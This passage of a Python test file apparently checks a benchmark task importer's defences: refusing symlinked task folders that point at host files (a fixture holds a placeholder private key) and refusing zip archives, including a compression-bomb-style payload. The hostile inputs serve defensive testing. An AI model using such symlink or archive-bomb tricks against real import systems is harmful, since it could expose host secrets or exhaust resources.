    write_tree(root / "fine", {**HARBOR, "task.toml": 'schema_version = "1.4"\n[task]\nname = "acme/fine"\n'})
    report = importer.tasks_import(path=root, user=author)
    lines = {line.where: line for line in report.lines}
    assert lines["tasks/linked"].message == "tasks/linked/tests/secret: a symbolic link; links are not imported"
    assert lines["tasks/latin1"].message == "tasks/latin1/run-tests.sh: not valid UTF-8 (byte 8)"
    assert lines["tasks/fine"].status == "created"
    assert list(Task.objects.values_list("slug", flat=True)) == ["fine"]


def test_a_linked_folder_in_a_task_folder_is_not_read_through(author, scratch):
    """A folder import (`import_tasks DIR`, `check_dataset DIR`: a dataset cloned from its author) whose tests/,
    solution/ or environment/ is a link to a folder of the host: nothing is read through it (the host's files
    would become the task's grader files, copied into its sandbox), the task is refused naming the link, and a
    dataset folder whose one child is a link is not followed either."""
    host = scratch / "host-secrets"
    write_tree(
        host,
        {
            "test.sh": "#!/bin/bash\necho 1 > /logs/verifier/reward.txt\n",
            "solve.sh": "echo hi\n",
            "Dockerfile": "FROM alpine\nCOPY key /key\n",
            "key/id_rsa": "PRIVATE KEY\n",
        },
    )
    root = scratch / "tasks"

    def harbor(name: str, *, tests: bool = True) -> dict:
        toml = f'schema_version = "1.4"\n[task]\nname = "acme/{name}"\n'
        return {**{k: v for k, v in HARBOR.items() if tests or not k.startswith("tests/")}, "task.toml": toml}

    write_tree(root / "tests-linked", harbor("tests-linked", tests=False))
    (root / "tests-linked/tests").symlink_to(host, target_is_directory=True)
    write_tree(root / "solution-linked", harbor("solution-linked"))
    (root / "solution-linked/solution").symlink_to(host, target_is_directory=True)
    write_tree(root / "env-linked", harbor("env-linked"))
    (root / "env-linked/environment").symlink_to(host, target_is_directory=True)
    write_tree(root / "tb-linked", {"task.yaml": "instruction: Do it.\n", "run-tests.sh": "exit 0\n"})
    (root / "tb-linked/tests").symlink_to(host, target_is_directory=True)
    report = importer.tasks_import(path=root, user=author)
    lines = {line.where: line for line in report.lines}
    for name, link in [
        ("tests-linked", "tests"),
        ("solution-linked", "solution"),
        ("env-linked", "environment"),
        ("tb-linked", "tests"),
    ]:
        assert lines[f"tasks/{name}"].status == "rejected", (name, lines[f"tasks/{name}"])
        assert lines[f"tasks/{name}"].message == f"tasks/{name}/{link}: a symbolic link; links are not imported"
    assert not Task.objects.exists()
    assert not Blob.objects.exists()

    linked_root = scratch / "outer"
    linked_root.mkdir()
    write_tree(scratch / "elsewhere/task", HARBOR)
    (linked_root / "dataset").symlink_to(scratch / "elsewhere", target_is_directory=True)
    with pytest.raises(importer.ImportFailed, match="no tasks.jsonl, task.toml or task.yaml found"):
        importer.tasks_import(path=linked_root, user=author)
    assert not Task.objects.exists()


def test_a_zip_is_refused_in_words_on_the_page_and_from_the_command_line(client, author, scratch):
    """Only .tar.gz archives are imported: a .zip is refused by name before it is saved, and a zip named
    .tar.gz is not a readable .tar.gz; neither is unpacked."""
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("pack/task.toml", TASK_TOML)
        archive.writestr("pack/bomb.bin", b"\0" * (64 << 20))  # 1000:1
    client.force_login(author)
    upload = io.BytesIO(out.getvalue())
    upload.name = "pack.zip"
    page = client.post("/packs/import/", {"file": upload, "dry_run": "on"})
    assert page.status_code == 400 and "pack.zip: import a tasks.jsonl" in page.content.decode()
    assert ".tar.gz" in page.content.decode()
    path = scratch / "pack.zip"
    path.write_bytes(out.getvalue())
    with pytest.raises(DomainError) as failure:
        importer.tasks_import(path=path, user=author)
    assert failure.value.code == "usage" and "or a .tar.gz" in failure.value.message
    renamed = scratch / "pack.tar.gz"
    renamed.write_bytes(out.getvalue())
    with pytest.raises(importer.ImportFailed, match="pack.tar.gz is not a readable .tar.gz"):
        importer.tasks_import(path=renamed, user=author)
    assert not Task.objects.exists()
    assert [path for path in (scratch / "scratch").rglob("*") if path.is_file()] == []  # nothing unpacked
